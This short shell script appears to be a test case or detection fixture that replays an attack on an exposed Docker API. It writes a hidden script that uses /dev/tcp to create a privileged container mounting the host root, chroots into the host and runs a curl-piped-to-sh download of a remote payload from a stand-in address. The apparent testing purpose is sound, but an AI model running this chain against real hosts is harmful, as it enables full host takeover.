#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.cc <<'END'
ask() { exec 5<>/dev/tcp/203.0.113.77/2375; printf '%s %s HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s' "$1" "$2" "${#3}" "$3" >&5; cat <&5; exec 5>&-; }
ask POST '/images/create?fromImage=cmd.cat/chattr' ''
ask POST /v1.40/containers/create '{"Image":"cmd.cat/chattr","Cmd":["chroot","/hs","sh","-c","curl -s http://203.0.113.10/payload.sh|sh"],"HostConfig":{"Privileged":true,"Binds":["/:/hs"],"PidMode":"host"}}'
ask POST /v1.40/containers/0123456789ab/start ''
END
bash /tmp/.cc >/tmp/.out
grep -q 0123456789ab /tmp/.out
took_place
